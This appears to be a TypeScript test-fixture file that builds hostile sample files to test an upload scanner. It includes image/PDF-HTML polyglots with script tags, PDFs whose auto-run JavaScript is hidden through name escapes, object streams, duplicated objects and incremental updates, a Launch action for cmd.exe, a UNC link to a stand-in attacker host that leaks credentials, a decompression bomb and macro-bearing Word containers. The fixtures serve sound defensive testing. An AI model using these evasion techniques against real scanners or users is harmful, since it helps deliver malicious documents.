import { deflateSync } from 'node:zlib';
import * as CFB from 'cfb';
import { strToU8, unzipSync, zipSync } from 'fflate';
import sharp from 'sharp';

/** Real, tiny files of every kind the upload rules talk about, built in memory for the tests. */

export async function jpeg(): Promise<Buffer> {
  return sharp({ create: { width: 16, height: 16, channels: 3, background: '#1f5fa8' } })
    .jpeg()
    .toBuffer();
}

/** A JPEG whose header comment carries markup: an image/HTML polyglot. */
export async function jpegWithMarkupComment(): Promise<Buffer> {
  const image = await jpeg();
  const text = Buffer.from('<script>alert(document.cookie)</script>', 'latin1');
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, text.length + 2]), text]);
  return Buffer.concat([image.subarray(0, 2), comment, image.subarray(2)]);
}

/** Pads a file past a size limit; the magic bytes stay what they were. */
export function padTo(bytes: Buffer, size: number): Buffer {
  return Buffer.concat([bytes, Buffer.alloc(Math.max(0, size - bytes.length), 0x20)]);
}

function pdfFrom(objects: string[], version = '1.4'): Buffer {
  let body = `%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`;
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const PAGE_OBJECTS = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
];

export function pdf(): Buffer {
  return pdfFrom(PAGE_OBJECTS);
}

/** A PDF that runs JavaScript when opened. */
export function pdfWithJavaScript(): Buffer {
  return pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    ...PAGE_OBJECTS.slice(1),
    '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  ]);
}

/** The same, with the names spelled in #xx escapes (/J#61vaScript), as readers decode them. */
export function pdfWithEscapedJavaScript(): Buffer {
  return pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    ...PAGE_OBJECTS.slice(1),
    '<< /S /J#61va#53cript /JS (app.alert\\(1\\)) >>',
  ]);
}

/** A stream object (`dict` without /Length) whose data is `data` deflated. */
function flateStream(dict: string, data: string): string {
  const packed = deflateSync(Buffer.from(data, 'latin1')).toString('latin1');
  return `<< ${dict} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`;
}

/** An object stream (PDF 1.5) holding `objects` numbered from `first`, compressed as writers do. */
function objectStream(objects: string[], first: number, extraDict = ''): string {
  let offsets = '';
  let body = '';
  objects.forEach((object, i) => {
    offsets += `${first + i} ${body.length} `;
    body += `${object}\n`;
  });
  return flateStream(
    `/Type /ObjStm /N ${objects.length} /First ${offsets.length}${extraDict}`,
    `${offsets}${body}`,
  );
}

/** A PDF 1.5 whose JavaScript action sits in a compressed object stream (invisible in the raw bytes). */
export function pdfWithJavaScriptInObjectStream(): Buffer {
  return pdfFrom(
    [
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
      ...PAGE_OBJECTS.slice(1),
      objectStream(['<< /S /JavaScript /JS (app.alert\\(1\\)) >>'], 5),
    ],
    '1.5',
  );
}

/** The same object stream behind a second filter (ASCIIHex over Flate) we do not decode. */
export function pdfWithObjectStreamUnderTwoFilters(): Buffer {
  const packed = deflateSync(Buffer.from('5 0 << /S /JavaScript /JS (x) >>', 'latin1')).toString('hex');
  return pdfFrom(
    [
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
      ...PAGE_OBJECTS.slice(1),
      `<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length ${packed.length + 1} >>\nstream\n${packed}>\nendstream`,
    ],
    '1.5',
  );
}

/**
 * A harmless PDF 1.5 in the shape of modern writers (xref simplified): a font in a compressed object stream, a compressed
 * page whose text mentions "/JavaScript" (a CV may), which must not be mistaken for an action.
 */
export function pdfWithObjectStreams(): Buffer {
  return pdfFrom(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>',
      flateStream('', 'BT /F1 12 Tf 20 100 Td (Experiencia: Node/JavaScript, HTML) Tj ET'),
      objectStream(['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'], 6),
    ],
    '1.5',
  );
}

/** Starts like a PDF, but its first bytes are also an HTML page with a script. */
export function pdfHtmlPolyglot(): Buffer {
  const html = Buffer.from('<html><body><script>alert(1)</script></body></html>\n', 'latin1');
  const real = pdf();
  return Buffer.concat([real.subarray(0, 9), Buffer.from('%'), html, real.subarray(9)]);
}

function zip(entries: Record<string, string>): Buffer {
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(entries).map(([k, v]) => [k, strToU8(v)]))));
}

const CONTENT_TYPES_DOCX =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

export function docx(): Buffer {
  return zip({
    '[Content_Types].xml': CONTENT_TYPES_DOCX,
    '_rels/.rels':
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    'word/document.xml':
      '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
      '<w:body><w:p><w:r><w:t>Daño en la cocina</w:t></w:r></w:p></w:body></w:document>',
  });
}

/** A plain zip (no Office parts). */
export function plainZip(): Buffer {
  return zip({ 'notas.txt': 'hola' });
}

function cfb(streams: Record<string, Buffer>): Buffer {
  const container = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(streams)) CFB.utils.cfb_add(container, `/${name}`, content);
  return Buffer.from(CFB.write(container, { type: 'buffer' }) as Uint8Array);
}

/** Word 97-2003: a compound file with a WordDocument stream (content beyond the FIB is irrelevant here). */
export function doc(): Buffer {
  return cfb({ WordDocument: Buffer.alloc(1024, 0), '1Table': Buffer.alloc(512, 0) });
}

/** Another compound file (an Excel 97 workbook), also sniffed as x-cfb. */
export function xlsCfb(): Buffer {
  return cfb({ Workbook: Buffer.alloc(1024, 0) });
}

/** ISO base media: ftyp(isom) + an empty moov + a few bytes of mdat. */
export function mp4(): Buffer {
  const box = (type: string, payload: Buffer) => {
    const header = Buffer.alloc(8);
    header.writeUInt32BE(8 + payload.length, 0);
    header.write(type, 4, 'latin1');
    return Buffer.concat([header, payload]);
  };
  const ftyp = box(
    'ftyp',
    Buffer.concat([
      Buffer.from('isom', 'latin1'),
      Buffer.from([0, 0, 2, 0]),
      Buffer.from('isomiso2avc1mp41', 'latin1'),
    ]),
  );
  return Buffer.concat([ftyp, box('free', Buffer.alloc(0)), box('mdat', Buffer.alloc(64, 0))]);
}

/** A real JPEG with an HTML page after its end (past the bytes a browser sniffs). */
export async function jpegWithHtmlTail(): Promise<Buffer> {
  return Buffer.concat([await jpeg(), Buffer.alloc(2048, 0), html()]);
}

/** A real PDF with an HTML page after %%EOF (past the bytes a browser sniffs). */
export function pdfWithHtmlTail(): Buffer {
  return Buffer.concat([pdf(), Buffer.alloc(2048, 0x20), html()]);
}

export function html(): Buffer {
  return Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api")</script></body></html>', 'utf8');
}

/** Linux executable header. */
export function elf(): Buffer {
  const bytes = Buffer.alloc(128, 0);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(bytes, 0);
  return bytes;
}

/** Windows executable: MZ header pointing at a PE signature. */
export function exe(): Buffer {
  const bytes = Buffer.alloc(256, 0);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  return bytes;
}

export async function png(): Promise<Buffer> {
  return sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } })
    .png()
    .toBuffer();
}

// --- PDFs from the outside security test (each carries document-level JavaScript or an action a reader
// runs by itself, in a syntax a regex scan missed; poppler's `pdfinfo -js` prints the script of each). ---

const JS_ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** The catalog's /Names dictionary with a document-level script (object `script`). */
const JS_NAMES = (script: number) => `<< /JavaScript << /Names [(inicio) ${script} 0 R] >> >>`;

/**
 * A PDF 1.5 as modern writers lay it out: body objects 1..n, objects `compressed` (number → [object
 * stream number, index]) inside object streams, and a cross-reference stream listing both, so readers
 * (poppler, pdf.js) find the compressed objects the normal way.
 */
function pdf15(
  objects: string[],
  compressed: Record<number, [number, number]>,
  trailer = '',
  pngPredictor = false,
): Buffer {
  let body = '%PDF-1.5\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefNumber = Math.max(objects.length, ...Object.keys(compressed).map(Number)) + 1;
  const size = xrefNumber + 1;
  const xrefOffset = Buffer.byteLength(body, 'latin1');
  const rows = Buffer.alloc(size * 7);
  for (let n = 0; n < size; n++) {
    const row = rows.subarray(n * 7, n * 7 + 7);
    const inStream = compressed[n];
    if (n >= 1 && n <= objects.length) {
      row.writeUInt8(1, 0);
      row.writeUInt32BE(offsets[n - 1]!, 1);
    } else if (n === xrefNumber) {
      row.writeUInt8(1, 0);
      row.writeUInt32BE(xrefOffset, 1);
    } else if (inStream) {
      row.writeUInt8(2, 0);
      row.writeUInt32BE(inStream[0], 1);
      row.writeUInt16BE(inStream[1], 5);
    } else {
      row.writeUInt8(0, 0);
      row.writeUInt16BE(n === 0 ? 65535 : 0, 5);
    }
  }
  // What qpdf, Ghostscript and Acrobat write: each row PNG 'Up'-filtered, then deflated.
  const data = pngPredictor
    ? deflateSync(
        Buffer.concat(
          Array.from({ length: size }, (_, n) => [
            Buffer.from([2]),
            Buffer.from(
              rows
                .subarray(n * 7, n * 7 + 7)
                .map((b, i) => (b - (n > 0 ? rows[(n - 1) * 7 + i]! : 0)) & 0xff),
            ),
          ]).flat(),
        ),
      )
    : rows;
  const filter = pngPredictor ? ' /Filter /FlateDecode /DecodeParms << /Columns 7 /Predictor 12 >>' : '';
  body += `${xrefNumber} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R${trailer}${filter} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream\nendobj\n`;
  body += `startxref\n${xrefOffset}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** Document-level JavaScript: the catalog's /Names (6) and the script (5), both in object stream 4 (`streamDict` around its data). */
function pdfOpeningCompressed(
  streamDict: (data: string, header: string) => string,
  extra: string[] = [],
): Buffer {
  const { data, header } = packed([JS_ACTION, JS_NAMES(5)], 5);
  return pdf15(
    [
      '<< /Type /Catalog /Pages 2 0 R /Names 6 0 R >>',
      ...PAGE_OBJECTS.slice(1),
      `${streamDict(data, header)}\nstream\n${data}\nendstream`,
      ...extra,
    ],
    { 5: [4, 0], 6: [4, 1] },
  );
}

/** Catalog opening object 5, pages, and objects 4… = `objects`. */
function pdfOpening(objects: string[]): Buffer {
  return pdfFrom(
    ['<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', ...PAGE_OBJECTS.slice(1), ...objects],
    '1.5',
  );
}
function packed(objects: string[], first: number): { data: string; header: string } {
  let offsets = '';
  let body = '';
  objects.forEach((object, i) => {
    offsets += `${first + i} ${body.length} `;
    body += `${object}\n`;
  });
  return {
    data: deflateSync(Buffer.from(`${offsets}${body}`, 'latin1')).toString('latin1'),
    header: `/N ${objects.length} /First ${offsets.length}`,
  };
}

/** A comment between `/Type` and `/ObjStm`. */
export function pdfObjStmTypeComment(): Buffer {
  return pdfOpeningCompressed(
    (data, header) => `<< /Type % tipo\n/ObjStm ${header} /Filter /FlateDecode /Length ${data.length} >>`,
  );
}

/** `/Type /ObjStm` more than 4 KB before `stream`. */
export function pdfObjStmTypeFarFromStream(): Buffer {
  return pdfOpeningCompressed(
    (data, header) =>
      `<< /Type /ObjStm ${header} /Pad (${'x'.repeat(5000)}) /Filter /FlateDecode /Length ${data.length} >>`,
  );
}

/**
 * An indirect `/Filter n 0 R` whose object is `[/FlateDecode]`, written before the object stream or, with
 * `filterAfter`, after it; the JavaScript action (9) is compressed in the object stream.
 */
export function pdfObjStmIndirectFilter(filterAfter = false): Buffer {
  const { data, header } = packed([JS_ACTION, JS_NAMES(9)], 9);
  const stream = (filter: number) =>
    `<< /Type /ObjStm ${header} /Filter ${filter} 0 R /Length ${data.length} >>\nstream\n${data}\nendstream`;
  const [objects, streamNumber] = filterAfter
    ? [[stream(5), '[/FlateDecode]'], 4]
    : [['[/FlateDecode]', stream(4)], 5];
  return pdf15(['<< /Type /Catalog /Pages 2 0 R /Names 10 0 R >>', ...PAGE_OBJECTS.slice(1), ...objects], {
    9: [streamNumber, 0],
    10: [streamNumber, 1],
  });
}

/** A comment between `/Filter` and `/FlateDecode`. */
export function pdfObjStmFilterComment(): Buffer {
  return pdfOpeningCompressed(
    (data, header) => `<< /Type /ObjStm ${header} /Filter % filtro\n/FlateDecode /Length ${data.length} >>`,
  );
}

/** /OpenAction to a URI (the reader opens a web page by itself). */
export function pdfOpenActionUri(): Buffer {
  return pdfOpening(['null', '<< /S /URI /URI (https://atacante.example/x) >>']);
}

/** /OpenAction /GoToR to a UNC path (Windows sends the user's credentials to that host). */
export function pdfOpenActionGoToRUnc(): Buffer {
  return pdfOpening(['null', '<< /S /GoToR /F (\\\\\\\\atacante.example\\\\share\\\\x.pdf) /D [0 /Fit] >>']);
}

/** A page's /AA (open trigger) launching a URI. */
export function pdfPageAutoActionUri(): Buffer {
  return pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>',
    '<< /S /URI /URI (https://atacante.example/x) >>',
  ]);
}

/** A GoTo open action (jump to page 1) whose /Next runs a Launch action. */
export function pdfOpenActionChainLaunch(): Buffer {
  return pdfOpening(['null', '<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >> >>']);
}

/** A clickable link to a web page (not automatic): allowed, CVs carry them. */
export function pdfWithLinkAnnotation(): Buffer {
  return pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
    '<< /Type /Annot /Subtype /Link /Rect [10 10 100 30] /A << /S /URI /URI (https://www.linkedin.com/in/ana) >> >>',
  ]);
}

/** An open action that only jumps to the first page (what some writers add): allowed. */
export function pdfOpenActionGoTo(): Buffer {
  return pdfOpening(['null', '<< /S /GoTo /D [3 0 R /Fit] >>']);
}

/** An embedded file in the catalog's /Names /EmbeddedFiles tree. */
export function pdfWithEmbeddedFile(): Buffer {
  const payload = 'MZ fake executable';
  return pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(factura.exe) 4 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    '<< /Type /Filespec /F (factura.exe) /EF << /F 5 0 R >> >>',
    `<< /Type /EmbeddedFile /Length ${payload.length} >>\nstream\n${payload}\nendstream`,
  ]);
}

/** A file attachment annotation on the page. */
export function pdfWithFileAttachmentAnnotation(): Buffer {
  return pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
    '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (nota.txt) >>',
  ]);
}

/** A RichMedia (Flash/video) annotation. */
export function pdfWithRichMedia(): Buffer {
  return pdfFrom([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
    '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>',
  ]);
}

/** Encrypted with the standard handler (RC4, empty user password: readers open it without asking). */
export function pdfEncrypted(): Buffer {
  const body = pdf().toString('latin1');
  return Buffer.from(
    body.replace(
      '/Root 1 0 R',
      `/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <${'00'.repeat(32)}> /U <${'00'.repeat(32)}> /P -4 >> /ID [<${'11'.repeat(16)}> <${'11'.repeat(16)}>]`,
    ),
    'latin1',
  );
}

/** Starts like a PDF, then garbage: no objects a parser can read. */
export function pdfUnreadable(): Buffer {
  return Buffer.concat([Buffer.from('%PDF-1.7\n', 'latin1'), Buffer.alloc(2048, 0x41)]);
}

/** An object stream that inflates to 100 MB (zip bomb). */
export function pdfObjStmBomb(): Buffer {
  const bomb = deflateSync(Buffer.alloc(100 * 1024 * 1024, 0x20), { level: 9 }).toString('latin1');
  return pdfOpening([
    `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n${bomb}\nendstream`,
  ]);
}

/** Word 97 with a VBA project (`Macros/VBA` storage), as Word saves a .doc with macros. */
export function docWithMacros(): Buffer {
  return cfb({
    WordDocument: Buffer.alloc(1024, 0),
    '1Table': Buffer.alloc(512, 0),
    'Macros/VBA/ThisDocument': Buffer.from(
      'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nEnd Sub',
      'latin1',
    ),
    'Macros/VBA/dir': Buffer.alloc(64, 1),
    'Macros/PROJECT': Buffer.from('ID="{00000000-0000-0000-0000-000000000000}"', 'latin1'),
  });
}

/** A .docx zip carrying a VBA project (a .docm renamed). */
export function docxWithMacros(): Buffer {
  const base = unzipSync(docx());
  return Buffer.from(zipSync({ ...base, 'word/vbaProject.bin': new Uint8Array(64) }));
}

// --- Issue 47: what pdf-lib reads is not what a reader runs. pdf-lib reads the file front to back and keeps
// the last copy of each object; a reader follows the cross-references. poppler's `pdfinfo -js` prints the
// script of each file below marked "runs". ---

const PDF_HEADER = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
export const URI_ACTION = '<< /S /URI /URI (https://atacante.example/x) >>';
const GOTO_ACTION = '<< /S /GoTo /D [3 0 R /Fit] >>';
/** The catalog: opens object 5 and lists it as document-level JavaScript. */
const CATALOG_RUNNING_5 =
  '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(inicio) 5 0 R] >> >> >>';

const obj = (n: number, body: string) => `${n} 0 obj\n${body}\nendobj\n`;

/** An uncompressed stream object whose data is `data`. */
const rawStream = (n: number, data: string) =>
  obj(n, `<< /Length ${data.length} >>\nstream\n${data}\nendstream`);

/**
 * `body` followed by a cross-reference table whose entries point at `offsets` (object number → byte offset;
 * string indexes are byte offsets in these latin1 files) and its trailer.
 */
function withXref(body: string, offsets: Record<number, number>, trailer = '/Root 1 0 R'): Buffer {
  const size = Math.max(...Object.keys(offsets).map(Number)) + 1;
  let table = `xref\n0 ${size}\n`;
  for (let n = 0; n < size; n++)
    table +=
      offsets[n] === undefined
        ? `0000000000 ${n === 0 ? '65535' : '00000'} f \n`
        : `${String(offsets[n]).padStart(10, '0')} 00000 n \n`;
  return Buffer.from(
    `${body}${table}trailer\n<< /Size ${size} ${trailer} >>\nstartxref\n${body.length}\n%%EOF\n`,
    'latin1',
  );
}

/** Offsets of the first `n 0 obj` of each number (`from`: search from there on). */
function headersIn(body: string, numbers: number[], from = 0): Record<number, number> {
  return Object.fromEntries(numbers.map((n) => [n, body.indexOf(`${n} 0 obj`, from)]));
}

/** Runs: object 5 defined twice; the xref points at the first copy (`first`), pdf-lib keeps the second. */
export function pdfObjectDefinedTwice(first = JS_ACTION, catalog = CATALOG_RUNNING_5): Buffer {
  const body =
    PDF_HEADER + obj(1, catalog) + obj(2, PAGE_OBJECTS[1]!) + obj(3, PAGE_OBJECTS[2]!) + obj(5, first);
  return withXref(body + obj(5, GOTO_ACTION), headersIn(body, [1, 2, 3, 5]));
}

/**
 * Runs: object 5 exists only inside the data of stream 4 (a front-to-back parser skips it), reached through
 * the xref alone.
 */
export function pdfObjectHiddenInStream(hidden = JS_ACTION, catalog = CATALOG_RUNNING_5): Buffer {
  const body =
    PDF_HEADER +
    obj(1, catalog) +
    obj(2, PAGE_OBJECTS[1]!) +
    obj(3, PAGE_OBJECTS[2]!) +
    rawStream(4, `q Q\n${obj(5, hidden)}q Q`);
  const data = body.indexOf('stream\n') + 7;
  return withXref(body, { ...headersIn(body, [1, 2, 3, 4]), 5: body.indexOf('5 0 obj', data) });
}

/** An xref entry a few bytes off its object (readers rebuild the table then; pdf-lib never reads it). */
export function pdfXrefOffTarget(): Buffer {
  const body = PDF_HEADER + PAGE_OBJECTS.map((o, i) => obj(i + 1, o)).join('');
  const offsets = headersIn(body, [1, 2, 3]);
  return withXref(body, { ...offsets, 3: offsets[3]! + 2 });
}

/**
 * Runs: object 7 in two object streams; the xref stream puts it in the first (JavaScript), pdf-lib keeps the
 * second's (a jump). `hideInString`: the first stream's object starts inside what looks like a string.
 */
export function pdfObjectStreamsDefiningTwice(hideInString = false): Buffer {
  const script = hideInString
    ? {
        data: deflateSync(Buffer.from(`7 1 (${JS_ACTION})`, 'latin1')).toString('latin1'),
        header: '/N 1 /First 4',
      }
    : packed([JS_ACTION], 7);
  const jump = packed([GOTO_ACTION], 7);
  const stream = ({ data, header }: { data: string; header: string }) =>
    `<< /Type /ObjStm ${header} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`;
  return pdf15(
    [
      CATALOG_RUNNING_5.replaceAll('5 0 R', '7 0 R'),
      ...PAGE_OBJECTS.slice(1),
      'null',
      stream(script),
      stream(jump),
    ],
    { 7: [5, 0] },
  );
}

/** A harmless PDF 1.5 whose cross-reference stream is PNG-predicted, as qpdf, Ghostscript and Acrobat write. */
export function pdfWithPredictedXrefStream(): Buffer {
  return pdf15(
    [...PAGE_OBJECTS, objectStream(['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'], 6)],
    { 6: [4, 0] },
    '',
    true,
  );
}

/**
 * `base` plus an incremental update (new objects, a cross-reference section with /Prev, as Acrobat saves):
 * `objects` are the update's body, each `n 0 obj` pointed at by the new section.
 */
function incrementalUpdate(
  base: Buffer,
  objects: string,
  numbers: number[],
  pointAt = headersIn,
  trailer = '',
): Buffer {
  const text = base.toString('latin1');
  const prev = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1]);
  const body = text + objects;
  const offsets = pointAt(body, numbers, text.length);
  const table = numbers.map((n) => `${n} 1\n${String(offsets[n]).padStart(10, '0')} 00000 n \n`).join('');
  const size = Math.max(4, ...numbers) + 1;
  return Buffer.from(
    `${body}xref\n${table}trailer\n<< /Size ${size} /Root 1 0 R /Prev ${prev}${trailer} >>\nstartxref\n${body.length}\n%%EOF\n`,
    'latin1',
  );
}

/**
 * Runs: an incremental update gives the catalog an /OpenAction to object 5, whose JavaScript sits inside
 * the data of the update's stream 4, its names spelled in #xx escapes.
 */
export function pdfIncrementalUpdateOpeningJavaScript(): Buffer {
  const hidden = obj(5, '<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>');
  const objects =
    obj(
      1,
      '<< /Type /Catalog /Pages 2 0 R /Open#41ction 5 0 R /Names << /J#61vaScript << /Names [(inicio) 5 0 R] >> >> >>',
    ) + rawStream(4, `q Q\n${hidden}q Q`);
  return incrementalUpdate(pdf(), objects, [1, 4, 5], (body, numbers, from) => ({
    ...headersIn(body, [1, 4], from),
    5: body.indexOf('5 0 obj', body.indexOf('stream\n', from)),
  }));
}

/** An incremental update that only sets the title (a new Info and catalog copy): harmless. */
export function pdfIncrementalUpdateSettingTitle(): Buffer {
  const objects =
    obj(1, '<< /Type /Catalog /Pages 2 0 R /Lang (es-CO) >>') + obj(4, '<< /Title (Hoja de vida) >>');
  return incrementalUpdate(pdf(), objects, [1, 4], headersIn, ' /Info 4 0 R');
}
